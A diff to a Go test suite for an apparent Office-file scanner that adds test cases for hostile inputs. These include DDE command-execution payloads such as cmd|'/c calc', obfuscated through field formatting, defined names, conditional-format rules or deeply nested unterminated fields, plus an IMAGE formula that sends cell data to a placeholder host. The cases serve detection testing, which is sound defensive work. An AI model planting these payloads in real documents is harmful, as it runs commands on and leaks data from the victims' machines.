@@ -91,6 +91,10 @@ func fieldTricks(runs, fine addOffice) {
 	fine("contents-of-links", docxType, inText(mark("begin")+`<w:r><w:instrText>TOC \o "1-3"</w:instrText></w:r>`+mark("separate")+code(`HYPERLINK \l "_Toc1"`)+code("PAGEREF _Toc1")+mark("end")))
 	fine("field-in-a-text-box-and-its-alternative", docxType, inText(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps"><w:txbxContent>`+code("PAGE")+`</w:txbxContent></mc:Choice><mc:Fallback><w:txbxContent>`+code("PAGE")+`</w:txbxContent></mc:Fallback></mc:AlternateContent>`))
 	fine("references-of-endnote", docxType, inText(code(" ADDIN EN.CITE ", code(" ADDIN EN.CITE.DATA "))))
+	runs("dde-by-letters-of-numbers", docxType, inText(code(code(`= 30 \* ALPHABETIC`), code(`= 5 \* ALPHABETIC`), ` cmd`)))
+	runs("dde-by-the-picture-of-a-number", docxType, inText(code(code(`= 1 \# "'DDE'"`), ` cmd`)))
+	runs("dde-behind-fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)+code("DDE cmd")))
+	fine("fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)))
 	fine("field-that-has-no-end", docxType, inText(mark("begin")+`<w:r><w:instrText> PAGE </w:instrText></w:r>`))
 	fine("text-of-a-neighbour", docxType, inText(code(` INCLUDETEXT "C:\\Templates\\Terms.docx" `)))
 }
@@ -165,6 +169,8 @@ func formulaTricks(runs, fine addOffice) {
 	runs("dde-formula-as-a-name", xlsxType, parts{"xl/workbook.xml": strings.Replace(xlsxParts["xl/workbook.xml"], "Sheet1!$A$1", "cmd|'/c calc'!A0", 1)})
 	runs("dde-formula-as-a-rule", xlsxType, parts{"xl/worksheets/sheet1.xml": `<worksheet><conditionalFormatting><cfRule><formula>cmd|'/c'!A0</formula></cfRule></conditionalFormatting></worksheet>`})
 	runs("picture-that-sends-cells", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/?"&amp;A1)`))
+	runs("dde-formula-behind-a-column", xlsxType, formulaCell(`SUM(T['#a])+cmd|'/c calc'!A0`))
+	fine("pictures-of-one-name-but-for-case", xlsxType, parts{"xl/media/a.png": "x", "xl/media/a.PNG": "x"})
 	fine("formulas-of-text", xlsxType, formulaCell(`"call (me) "&amp;'my "call(2)" sheet'!A1&amp;HYPERLINK("https://example.org/?q="&amp;A2,"RTD(1)")`))
 	fine("formula-of-google", xlsxType, formulaCell(`IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://example.org"",""A1"")"),"1")`))
 }
@@ -192,7 +198,6 @@ func boundTricks() []Case {
 		officeCase("type-of-5000-bytes", docxType, airlock.Malformed, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/a" ContentType="`+long+`"/>`)}),
 		officeCase("document-named-by-5000-bytes", docxType, airlock.Malformed, parts{"_rels/.rels": rels("officeDocument", "word/document.xml", "officeDocument", long)}),
 		officeCase("in-utf-7-behind-a-tab", docxType, airlock.Uninspectable, parts{"word/document.xml": "<?xml\tversion=\"1.0\" encoding=\"UTF-7\"?>" + wordText("")[len(xmlV1):]}),
-		officeCase("fields-nested-too-deep", docxType, airlock.Malformed, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80))),
 		officeCase("part-twice-but-for-case", docxType, airlock.UnsafeArchive, parts{"word/DOCUMENT.xml": wordText("")}),
 		officeCase("main-of-a-foreign-namespace", docxType, airlock.Malformed, parts{"_rels/.rels": strings.ReplaceAll(rels("officeDocument", "word/document.xml"), "<Relationship ", `<z:Relationship xmlns:z="urn:z" `)}),
 		officeCase("of-another-kind-by-its-manifest", odtType, airlock.TypeMismatch, parts{"META-INF/manifest.xml": strings.Replace(manifest, odtType, odsType, 1)}),
